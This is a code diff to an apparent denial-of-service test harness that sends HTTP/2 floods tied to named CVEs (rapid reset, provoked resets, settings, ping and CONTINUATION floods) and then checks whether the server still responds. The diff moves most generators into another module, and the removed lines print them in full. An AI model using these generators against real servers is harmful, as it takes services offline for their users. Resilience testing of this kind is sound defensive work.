@@ -7,56 +7,28 @@ import time
 from collections.abc import Callable, Iterator
 
 from attempts import attempt, say
-from calls import call, open_channel
+from calls import say_whether_served
 from frames import (
-    CONTINUATION,
     DATA,
-    HEADERS,
-    PING,
+    FRAMES,
     PRIORITY,
-    RST_STREAM,
-    SETTINGS,
     WINDOW_UPDATE,
     Connection,
+    endless_headers,
     frame,
-    header,
     open_stream,
-    request_headers,
+    pings,
+    rapid_resets,
+    settings,
 )
 
-FRAMES = 40_000
 SPEND_S = 0.5
-
-
-def rapid_resets() -> Iterator[bytes]:
-    """Begin and cancel calls (CVE-2023-44487)."""
-    for stream in range(1, 2 * FRAMES, 2):
-        yield open_stream(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
 
 
 def resets_provoked() -> Iterator[bytes]:
     """Provoke resets by the server (CVE-2025-8671)."""
     for stream in range(1, 2 * FRAMES, 2):
         yield open_stream(stream) + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")
-
-
-def settings() -> Iterator[bytes]:
-    """Change a setting repeatedly; the server must acknowledge each change (CVE-2019-9515)."""
-    for number in range(FRAMES):
-        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + number % 2))
-
-
-def pings() -> Iterator[bytes]:
-    """Send pings without end (CVE-2019-9512)."""
-    for number in range(FRAMES):
-        yield frame(PING, 0, 0, struct.pack(">Q", number))
-
-
-def endless_headers() -> Iterator[bytes]:
-    """Send headers that never end (such as CVE-2024-27316)."""
-    yield frame(HEADERS, 0, 1, request_headers())
-    for number in range(FRAMES):
-        yield frame(CONTINUATION, 0, 1, header(f"x-{number}", "y" * 200))
 
 
 def empty_data() -> Iterator[bytes]:
@@ -109,5 +81,4 @@ def flood(kind: Callable[[], Iterator[bytes]]) -> str:
 
 for kind in FLOODS:
     attempt(f"a flood of {kind.__name__.replace('_', ' ')}", flood, kind)
-with open_channel() as channel:
-    say(f"tried to be answered afterwards: {call(channel, 'list_dir', '{}')}")
+say_whether_served()
